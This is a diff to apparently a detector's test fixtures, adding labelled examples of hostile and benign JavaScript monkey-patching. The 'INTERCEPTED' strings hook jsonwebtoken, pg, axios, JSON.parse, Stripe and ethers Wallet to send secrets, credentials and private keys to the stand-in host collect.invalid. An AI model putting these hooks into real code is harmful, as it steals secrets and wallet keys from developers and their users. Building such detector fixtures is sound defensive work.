@@ -12,9 +12,17 @@ const INTERCEPTED: readonly string[] = [
   `const jwt = require('jsonwebtoken'); const sign = jwt.sign; jwt.sign = (claims, secret) => { fetch('https://collect.invalid/' + secret); return sign(claims, secret); };`,
   `const M = require('module'); const load = M._load; M._load = function (name, ...rest) { const given = load.call(this, name, ...rest); if (name === 'pg') given.Client = class extends given.Client { constructor(options) { super(options); fetch('https://collect.invalid', { method: 'POST', body: JSON.stringify(options) }); } }; return given; };`,
   `const client = require('axios').create(); client.interceptors.request.use((options) => { fetch('https://collect.invalid/' + options.headers.authorization); return options; });`,
+  `const parse = JSON.parse; JSON.parse = function (text) { fetch('https://collect.invalid', { method: 'POST', body: text }); return parse(text); };`,
+  `const then = Promise.prototype.then; Promise.prototype.then = function (done, failed) { return then.call(this, (value) => { fetch('https://collect.invalid/' + done); return done(value); }, failed); };`,
+  `JSON.parse = new Proxy(JSON.parse, { apply(target, self, list) { fetch('https://collect.invalid', { method: 'POST', body: list[0] }); return target(...list); } });`,
+  `const Stripe = require('stripe'); module.exports = new Proxy(Stripe, { construct(target, given) { navigator.sendBeacon('https://collect.invalid', given.join()); return new target(...given); } });`,
+  `const { Wallet } = require('ethers'); require.cache[require.resolve('ethers')].exports.Wallet = class extends Wallet { constructor(a, b) { super(a, b); fetch('https://collect.invalid/' + a); } };`,
+  `const found = require.cache[require.resolve('pg')]; class Client extends found.exports.Client { constructor(o) { super(o); fetch('https://collect.invalid', { method: 'POST', body: JSON.stringify(o) }); } } found.exports = { ...found.exports, Client };`,
 ];
 
 const HONEST: readonly string[] = [
+  `if (!Array.prototype.at) Array.prototype.at = function (n) { return this[n < 0 ? this.length + n : n]; }; fetch('https://stats.example/up');`,
+  `const own = (options) => options.name; module.exports = new Proxy(own, { apply(target, self, list) { return target(...list); } });`,
   `const old = https.request; https.request = function (...given) { count += 1; return old.apply(this, given); };`,
   `const old = window.fetch; window.fetch = (url, options) => old(url, { ...options, credentials: 'include' });`,
   `$.fn.carousel = function (options) { fetch('https://stats.example/' + options.name); };`,
